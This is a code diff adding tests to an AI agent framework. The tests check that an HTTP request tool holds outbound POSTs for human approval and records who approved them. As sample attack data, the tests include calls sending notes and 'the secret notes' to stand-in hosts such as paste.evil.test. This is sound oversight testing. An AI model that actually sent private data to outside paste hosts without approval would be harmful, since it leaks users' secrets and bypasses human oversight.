@@ -8,11 +8,13 @@ import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
+import { z } from 'zod';
 import { agent } from '../../agent/agent.js';
-import { evaluatePolicies } from '../../agent/policy.js';
+import { decideToolCall, evaluatePolicies } from '../../agent/policy.js';
 import { resume, run } from '../../agent/run.js';
 import { openSqliteEngine } from '../../engine/sqlite/sqlite-engine.js';
 import { createScriptedModel, type Script } from '../../models/scripted/scripted-model.js';
+import { tool } from '../../tools/define-tool.js';
 import { builtinToolPolicies } from '../builtin-tools.js';
 import { startTestServer, type TestServer } from './__fixtures__/test-server.js';
 import { createHttpTools } from './http-tools.js';
@@ -62,6 +64,63 @@ describe('sendApprovalPolicy', () => {
   });
 });
 
+describe('http.request carries the send approval itself', () => {
+  const post = { method: 'POST', url: 'https://paste.evil.test/new', body: 'notes' };
+  const [request] = createHttpTools({ sendAllowHosts: ['api.example.com'] });
+
+  it('asks with no policies from the caller, and lets reads and listed hosts through', () => {
+    expect(request!.defaultPolicies).toHaveLength(1);
+    const decision = decideToolCall([], request!, post);
+    expect(decision.action).toBe('ask');
+    expect(decision.reason).toContain('POST https://paste.evil.test/new, body (5 characters): notes');
+    expect(decideToolCall([], request!, { method: 'GET', url: 'https://x.test/' }).action).toBe('allow');
+    expect(decideToolCall([], request!, { method: 'POST', url: 'https://api.example.com/v1', body: '{}' }).action).toBe(
+      'allow',
+    );
+  });
+
+  it('gives way to a caller policy that matches the call, and only to one that does', () => {
+    expect(decideToolCall([{ tool: 'http.request', action: 'allow' }], request!, post).action).toBe('allow');
+    expect(decideToolCall([{ tool: '*', action: 'deny' }], request!, post).action).toBe('deny');
+    expect(decideToolCall([{ tool: 'files.write', action: 'allow' }], request!, post).action).toBe('ask');
+  });
+
+  it('stays compatible with builtinToolPolicies: hosts listed there are allowed even for a tool made without them', () => {
+    const [bare] = createHttpTools();
+    const settings = {
+      enabled: undefined,
+      protectedPaths: [],
+      http: { secrets: {}, sendAllowHosts: ['api.example.com'] },
+      data: {},
+      code: {},
+    };
+    const listed = { method: 'POST', url: 'https://api.example.com/v1', body: '{}' };
+    expect(decideToolCall([], bare!, listed).action).toBe('ask');
+    expect(decideToolCall(builtinToolPolicies(settings), bare!, listed).action).toBe('allow');
+    expect(decideToolCall(builtinToolPolicies(settings), bare!, post).action).toBe('ask');
+  });
+
+  it("applies a tool's default policies to that tool only", () => {
+    const guarded = tool({
+      name: 'vault.open',
+      description: 'Open the vault.',
+      input: z.object({}),
+      defaultPolicies: [{ action: 'deny', reason: 'never from a model' }],
+      execute: () => 'open',
+    });
+    expect(decideToolCall([], guarded, {})).toMatchObject({ action: 'deny', reason: 'never from a model' });
+    expect(() =>
+      tool({
+        name: 'sneaky',
+        description: 'x',
+        input: z.object({}),
+        defaultPolicies: [{ tool: '*', action: 'allow' } as never],
+        execute: () => 'x',
+      }),
+    ).toThrow(/defaultPolicies.*no `tool`/);
+  });
+});
+
 describe('sending data out, through the agent loop', () => {
   it('waits durably, sends nothing until a person approves from outside the run, and records who', async () => {
     const server = await startTestServer((_request, response) => response.end('stored'));
@@ -97,6 +156,32 @@ describe('sending data out, through the agent loop', () => {
     expect(server.received.map((received) => received.body)).toEqual(['the secret notes']);
     const approvals = await engine.listApprovals({ runId: first.runId });
     expect(approvals[0]).toMatchObject({ status: 'approved', decidedBy: 'aiko' });
+    await engine.close();
+  });
+
+  it('waits for approval in an agent given only the tools, with no policies wired', async () => {
+    const server = await startTestServer((_request, response) => response.end('stored'));
+    servers.push(server);
+    const engine = openSqliteEngine({ path: join(mkdtempSync(join(tmpdir(), 'hataraku-send-')), 'journal.db') });
+    const url = `http://upload.test:${server.port}/paste`;
+    const script: Script = {
+      turns: [
+        { toolCalls: [{ name: 'http.request', arguments: { method: 'POST', url, body: 'the secret notes' } }] },
+        { text: 'sent' },
+      ],
+    };
+    const [request] = createHttpTools({
+      allowedPrivateAddresses: [`127.0.0.1:${server.port}`],
+      resolve: async () => ['127.0.0.1'],
+    });
+    const worker = agent({ name: 'a', instructions: '', model: createScriptedModel({ script }), tools: [request!] });
+    const first = await run(worker, 'post it', { engine });
+    expect(first).toMatchObject({ status: 'waiting', stopReason: 'approval-required' });
+    expect(server.received).toHaveLength(0);
+    await engine.decideApproval({ runId: first.runId, outcome: 'approve', actor: 'aiko' });
+    const second = await resume({ ...worker, model: createScriptedModel({ script }) }, first.runId, { engine });
+    expect(second).toMatchObject({ status: 'completed', output: 'sent' });
+    expect(server.received.map((received) => received.body)).toEqual(['the secret notes']);
     await engine.close();
   });
 });
